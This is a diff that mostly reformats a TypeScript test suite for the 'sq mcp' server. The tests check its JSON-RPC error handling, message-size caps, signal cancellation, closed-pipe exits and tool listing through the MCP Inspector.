+      stdio: ['pipe', 'pipe', 'pipe'],
+    });
     children.push(wide);
     let err = '';
     wide.stderr.on('data', (d) => (err += String(d)));
     await new Promise<void>((ok) => wide.stdout.once('data', () => ok()));
     // The warning is written right after the URL line: waited for, not slept on.
-    await waitFor(() => err, (e) => e.includes('warning: sq mcp listens on 0.0.0.0, not loopback'), 'the warning', EVENT_MS);
-    const bad = await execa(process.execPath, [BIN, 'mcp', '--http', 'nope'], { env: serverEnv(), extendEnv: false, reject: false, input: '' });
+    await waitFor(
+      () => err,
+      (e) => e.includes('warning: sq mcp listens on 0.0.0.0, not loopback'),
+      'the warning',
+      EVENT_MS,
+    );
+    const bad = await execa(process.execPath, [BIN, 'mcp', '--http', 'nope'], {
+      env: serverEnv(),
+      extendEnv: false,
+      reject: false,
+      input: '',
+    });
     expect(bad.exitCode).toBe(2);
     expect(bad.stderr).toContain('--http');
     expect(stderr()).not.toContain('warning');
@@ -652,16 +893,28 @@ function raw(args: string[] = [], env = serverEnv()) {
   child.stdout.on('data', (d) => (out += String(d)));
   child.stderr.on('data', (d) => (err += String(d)));
   child.stdin.on('error', () => {});
-  const closed = new Promise<{ code: number | null; at: number }>((ok) => child.once('close', (code) => ok({ code, at: Date.now() })));
-  child.stdin.write('{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"raw","version":"1"}}}\n');
+  const closed = new Promise<{ code: number | null; at: number }>((ok) =>
+    child.once('close', (code) => ok({ code, at: Date.now() })),
+  );
+  child.stdin.write(
+    '{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"raw","version":"1"}}}\n',
+  );
   child.stdin.write('{"jsonrpc":"2.0","method":"notifications/initialized"}\n');
-  const lines = () => out.split('\n').filter(Boolean).map((l) => JSON.parse(l) as { id?: unknown; error?: { code: number; message: string }; result?: any; jsonrpc: string });
+  const lines = () =>
+    out
+      .split('\n')
+      .filter(Boolean)
+      .map(
+        (l) =>
+          JSON.parse(l) as { id?: unknown; error?: { code: number; message: string }; result?: any; jsonrpc: string },
+      );
   const until = async (ok: () => boolean, ms = EVENT_MS) => {
     for (const end = Date.now() + ms; !ok() && Date.now() < end; ) await new Promise((r) => setTimeout(r, 20));
   };
   return { child, lines, until, closed, stderr: () => err };
 }
-const call = (id: number, name: string, args: Record<string, unknown> = {}) => `${JSON.stringify({ jsonrpc: '2.0', id, method: 'tools/call', params: { name, arguments: args } })}\n`;
+const call = (id: number, name: string, args: Record<string, unknown> = {}) =>
+  `${JSON.stringify({ jsonrpc: '2.0', id, method: 'tools/call', params: { name, arguments: args } })}\n`;
 
 /** A server that accepts connections and never answers: an API that hangs. */
 async function hangingApi(): Promise<{ url: string; requested: Promise<void>; close(): void }> {
@@ -674,19 +927,35 @@ async function hangingApi(): Promise<{ url: string; requested: Promise<void>; cl
   let asked: () => void = () => {};
   const requested = new Promise<void>((ok) => (asked = ok));
   await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok));
-  return { url: `http://127.0.0.1:${(server.address() as { port: number }).port}`, requested, close: () => { for (const s of sockets) s.destroy(); server.close(); } };
+  return {
+    url: `http://127.0.0.1:${(server.address() as { port: number }).port}`,
+    requested,
+    close: () => {
+      for (const s of sockets) s.destroy();
+      server.close();
+    },
+  };
 }
 
 describe('sq mcp on the wire (issue 33, E5/E6/E13)', SLOW, () => {
   it('a malformed message gets a JSON-RPC error with its id when it has one; stdout holds protocol messages only', async () => {
     const s = raw();
     await s.until(() => s.lines().length >= 1);
-    s.child.stdin.write('this is not json\n{"hello":"world"}\n{"jsonrpc":"2.0","id":7}\n{"id":"é-8","method":"tools/list"}\n');
+    s.child.stdin.write(
+      'this is not json\n{"hello":"world"}\n{"jsonrpc":"2.0","id":7}\n{"id":"é-8","method":"tools/list"}\n',
+    );
     s.child.stdin.write(call(2, 'balance'));
     await s.until(() => s.lines().some((l) => l.id === 2));
     const all = s.lines();
     expect(all.every((l) => l.jsonrpc === '2.0')).toBe(true);
-    expect(all.filter((l) => l.error).map((l) => [l.id, l.error!.code])).toEqual(expect.arrayContaining([[null, -32700], [null, -32600], [7, -32600], ['é-8', -32600]]));
+    expect(all.filter((l) => l.error).map((l) => [l.id, l.error!.code])).toEqual(
+      expect.arrayContaining([
+        [null, -32700],
+        [null, -32600],
+        [7, -32600],
+        ['é-8', -32600],
+      ]),
+    );
     s.child.stdin.end();
     expect((await s.closed).code).toBe(0);
   });
@@ -694,12 +963,17 @@ describe('sq mcp on the wire (issue 33, E5/E6/E13)', SLOW, () => {
   it('a line over --max-message-bytes is answered -32600 with its id, skipped without being held, and later requests are answered', async () => {
     const s = raw(['--max-message-bytes', '65536']);
     await s.until(() => s.lines().length >= 1);
-    s.child.stdin.write('{"jsonrpc":"2.0","id":5,"method":"tools/call","params":{"name":"balance","arguments":{"pad":"');
+    s.child.stdin.write(
+      '{"jsonrpc":"2.0","id":5,"method":"tools/call","params":{"name":"balance","arguments":{"pad":"',
+    );
     const chunk = 'a'.repeat(1 << 20);
     for (let i = 0; i < 12; i++) s.child.stdin.write(chunk);
     // Answered before the line even ends: it is not held whole.
     await s.until(() => s.lines().some((l) => l.id === 5));
-    expect(s.lines().find((l) => l.id === 5)?.error).toMatchObject({ code: -32600, message: expect.stringContaining('--max-message-bytes') });
+    expect(s.lines().find((l) => l.id === 5)?.error).toMatchObject({
+      code: -32600,
+      message: expect.stringContaining('--max-message-bytes'),
+    });
     s.child.stdin.write('"}}}\n');
     s.child.stdin.write(call(6, 'balance'));
     await s.until(() => s.lines().some((l) => l.id === 6));
@@ -717,7 +991,8 @@ describe('sq mcp on the wire (issue 33, E5/E6/E13)', SLOW, () => {
     // 40 MiB without a newline: never held (the cap), never quadratic: answered -32600 and the server still answers.
     s.child.stdin.write('{"jsonrpc":"2.0","id":10,"method":"ping","x":"');
     const chunk = Buffer.alloc(1 << 20, 'c');
-    for (let i = 0; i < 40; i++) if (!s.child.stdin.write(chunk)) await new Promise((r) => s.child.stdin.once('drain', r));
+    for (let i = 0; i < 40; i++)
+      if (!s.child.stdin.write(chunk)) await new Promise((r) => s.child.stdin.once('drain', r));
     await s.until(() => s.lines().some((l) => l.id === 10));
     expect(s.lines().find((l) => l.id === 10)?.error?.code).toBe(-32600);
     s.child.stdin.write('\n{"jsonrpc":"2.0","id":11,"method":"ping"}\n');
@@ -727,7 +1002,11 @@ describe('sq mcp on the wire (issue 33, E5/E6/E13)', SLOW, () => {
     expect((await s.closed).code).toBe(0);
   });
 
-  for (const [signal, code] of [['SIGTERM', 143], ['SIGINT', 130], ['SIGHUP', 129]] as const) {
+  for (const [signal, code] of [
+    ['SIGTERM', 143],
+    ['SIGINT', 130],
+    ['SIGHUP', 129],
+  ] as const) {
     it(`${signal} with a call in flight on a hanging API: the call is answered cancelled, exit ${code}`, async () => {
       const api = await hangingApi();
       try {
@@ -738,7 +1017,10 @@ describe('sq mcp on the wire (issue 33, E5/E6/E13)', SLOW, () => {
         s.child.kill(signal);
         const { code: exit } = await s.closed;
         expect(exit).toBe(code);
-        expect(s.lines().find((l) => l.id === 2)?.result).toMatchObject({ isError: true, content: [{ text: expect.stringMatching(/^INTERRUPTED/) }] });
+        expect(s.lines().find((l) => l.id === 2)?.result).toMatchObject({
+          isError: true,
+          content: [{ text: expect.stringMatching(/^INTERRUPTED/) }],
+        });
       } finally {
         api.close();
       }
@@ -765,29 +1047,53 @@ describe('sq mcp on the wire (issue 33, E5/E6/E13)', SLOW, () => {
   });
 
   it('a client that closes its end of stdout ends the session: exit 0, no uncaught EPIPE', async () => {
-    const child = spawn(process.execPath, [BIN, 'mcp', '--quiet'], { env: serverEnv(), stdio: ['pipe', 'pipe', 'pipe'] });
+    const child = spawn(process.execPath, [BIN, 'mcp', '--quiet'], {
+      env: serverEnv(),
+      stdio: ['pipe', 'pipe', 'pipe'],
+    });
     let stderr = '';
     child.stderr.on('data', (d) => (stderr += d));
     const exited = new Promise<number | null>((r) => child.on('close', (code) => r(code)));
     const first = new Promise<void>((r) => child.stdout.once('data', () => r()));
-    child.stdin.write(`${JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'gone', version: '1' } } })}\n`);
+    child.stdin.write(
+      `${JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'gone', version: '1' } } })}\n`,
+    );
     await first;
     child.stdout.destroy();
     // Answers the server writes now meet a closed pipe.
-    for (let id = 2; id < 5; id++) child.stdin.write(`${JSON.stringify({ jsonrpc: '2.0', id, method: 'tools/list' })}\n`);
+    for (let id = 2; id < 5; id++)
+      child.stdin.write(`${JSON.stringify({ jsonrpc: '2.0', id, method: 'tools/list' })}\n`);
     expect(await exited, stderr).toBe(0);
     expect(stderr).not.toMatch(/EPIPE|Unhandled|at /);
   });
 
   it('answers every request it read before stdin ended (echo … | sq mcp), exit 0', async () => {
     const input = [
-      { jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'pipe', version: '1' } } },
+      {
+        jsonrpc: '2.0',
+        id: 1,
+        method: 'initialize',
+        params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'pipe', version: '1' } },
+      },
       { jsonrpc: '2.0', method: 'notifications/initialized' },
-      { jsonrpc: '2.0', id: 2, method: 'tools/call', params: { name: 'squids_get', arguments: { squid: DEMO_SQUIDS.paris } } },
+      {
+        jsonrpc: '2.0',
+        id: 2,
+        method: 'tools/call',
+        params: { name: 'squids_get', arguments: { squid: DEMO_SQUIDS.paris } },
+      },
     ];
-    const r = await execa(process.execPath, [BIN, 'mcp', '--quiet'], { env: serverEnv(), extendEnv: false, reject: false, input: `${input.map((m) => JSON.stringify(m)).join('\n')}\n` });
+    const r = await execa(process.execPath, [BIN, 'mcp', '--quiet'], {
+      env: serverEnv(),
+      extendEnv: false,
+      reject: false,
+      input: `${input.map((m) => JSON.stringify(m)).join('\n')}\n`,
+    });
     expect(r.exitCode, r.stderr).toBe(0);
-    const answers = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as { id: number; result: CallResult });
+    const answers = r.stdout
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l) as { id: number; result: CallResult });
     expect(answers.map((a) => a.id)).toEqual([1, 2]);
     expect(answers[1].result.structuredContent).toMatchObject({ name: DEMO_SQUIDS.paris });
   });
@@ -798,17 +1104,38 @@ describe('the MCP Inspector (CLI mode) against sq mcp', SLOW, () => {
   // relative to the working directory (else "../../package.json" relative to its module, which is wrong for this
   // package): it is run from test/, whose parent holds a package.json.
   const inspector = (args: string[]) =>
-    execa(process.execPath, [resolve(import.meta.dirname, '../../node_modules/@modelcontextprotocol/inspector-cli/build/cli.js'), '--cli', ...Object.entries(serverEnv()).flatMap(([k, v]) => ['-e', `${k}=${v}`]), process.execPath, BIN, 'mcp', ...args], {
-      cwd: resolve(import.meta.dirname, '..'),
-      reject: false,
-      timeout: EVENT_MS,
-    });
+    execa(
+      process.execPath,
+      [
+        resolve(import.meta.dirname, '../../node_modules/@modelcontextprotocol/inspector-cli/build/cli.js'),
+        '--cli',
+        ...Object.entries(serverEnv()).flatMap(([k, v]) => ['-e', `${k}=${v}`]),
+        process.execPath,
+        BIN,
+        'mcp',
+        ...args,
+      ],
+      {
+        cwd: resolve(import.meta.dirname, '..'),
+        reject: false,
+        timeout: EVENT_MS,
+      },
+    );
 
   it('lists the tools and calls one', async () => {
     const list = await inspector(['--method', 'tools/list']);
     expect(list.exitCode, list.stderr).toBe(0);
-    expect((JSON.parse(list.stdout) as { tools: Array<{ name: string }> }).tools.map((t) => t.name).sort()).toEqual(READ_TOOLS);
-    const got = await inspector(['--method', 'tools/call', '--tool-name', 'squids_get', '--tool-arg', `squid=${DEMO_SQUIDS.headphones}`]);
+    expect((JSON.parse(list.stdout) as { tools: Array<{ name: string }> }).tools.map((t) => t.name).sort()).toEqual(
+      READ_TOOLS,
+    );
+    const got = await inspector([
+      '--method',
+      'tools/call',
+      '--tool-name',
+      'squids_get',
+      '--tool-arg',
+      `squid=${DEMO_SQUIDS.headphones}`,
+    ]);
     expect(got.exitCode, got.stderr).toBe(0);
     const result = JSON.parse(got.stdout) as CallResult;
     expect(result.isError).toBeFalsy();
